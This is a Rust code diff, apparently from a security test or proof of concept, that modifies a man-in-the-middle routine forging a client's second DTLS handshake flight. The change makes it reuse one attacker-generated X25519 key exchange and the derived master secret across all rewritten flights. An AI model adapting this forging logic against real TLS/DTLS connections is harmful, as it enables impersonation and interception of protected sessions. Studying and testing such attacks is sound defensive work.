@@ -145,6 +145,16 @@ struct Seen {
     /// The keying material the attacker would share with the server if it connected.
     attacker_keying: Option<Vec<u8>>,
     forged: usize,
+    attack: Option<Attack>,
+}
+
+/// The attacker's side of the key exchange.
+struct Attack {
+    /// Its ClientKeyExchange message.
+    cke: Vec<u8>,
+    /// The server's transcript through that ClientKeyExchange.
+    transcript: Vec<u8>,
+    master: Vec<u8>,
 }
 
 /// The client's second flight rewritten: its Certificate, the attacker's
@@ -164,30 +174,45 @@ fn forge_flight(seen: &mut Seen, client_flight: &[Record]) -> Option<Vec<u8>> {
     let (group, key_len) = (u16::from_be_bytes([ske[13], ske[14]]), usize::from(ske[15]));
     let server_public = ske.get(16..16 + key_len)?.to_vec();
     assert_eq!(group, 29, "the peers agree on X25519");
-    let rng = ring::rand::SystemRandom::new();
-    let private = agreement::EphemeralPrivateKey::generate(&agreement::X25519, &rng).ok()?;
-    let public = private.compute_public_key().ok()?.as_ref().to_vec();
-    let pre_master = agreement::agree_ephemeral(
-        private,
-        &agreement::UnparsedPublicKey::new(&agreement::X25519, server_public),
-        |s| s.to_vec(),
-    )
-    .ok()?;
     let cert_seq = message_seq(&certificate_message);
-    let mut cke_body = vec![public.len() as u8];
-    cke_body.extend_from_slice(&public);
-    let cke = fragment(16, cert_seq + 1, cke_body.len() as u32, 0, &cke_body);
-    let mut transcript = client_hello.clone();
-    for m in &seen.server_flight {
-        transcript.extend_from_slice(m);
+    if seen.attack.is_none() {
+        // One key exchange for the whole attack: every rewritten flight carries the same
+        // ClientKeyExchange, so whichever the server takes, it shares these keys.
+        let rng = ring::rand::SystemRandom::new();
+        let private = agreement::EphemeralPrivateKey::generate(&agreement::X25519, &rng).ok()?;
+        let public = private.compute_public_key().ok()?.as_ref().to_vec();
+        let pre_master = agreement::agree_ephemeral(
+            private,
+            &agreement::UnparsedPublicKey::new(&agreement::X25519, server_public),
+            |s| s.to_vec(),
+        )
+        .ok()?;
+        let mut cke_body = vec![public.len() as u8];
+        cke_body.extend_from_slice(&public);
+        let cke = fragment(16, cert_seq + 1, cke_body.len() as u32, 0, &cke_body);
+        let mut transcript = client_hello.clone();
+        for m in &seen.server_flight {
+            transcript.extend_from_slice(m);
+        }
+        transcript.extend_from_slice(&certificate_message);
+        transcript.extend_from_slice(&cke);
+        let master = prf(
+            &pre_master,
+            b"extended master secret",
+            &sha256(&transcript),
+            48,
+        );
+        seen.attack = Some(Attack {
+            cke,
+            transcript,
+            master,
+        });
     }
-    transcript.extend_from_slice(&certificate_message);
-    transcript.extend_from_slice(&cke);
-    let master = prf(
-        &pre_master,
-        b"extended master secret",
-        &sha256(&transcript),
-        48,
+    let attack = seen.attack.as_ref()?;
+    let (cke, transcript, master) = (
+        attack.cke.clone(),
+        attack.transcript.clone(),
+        attack.master.clone(),
     );
     let key_block = prf(
         &master,
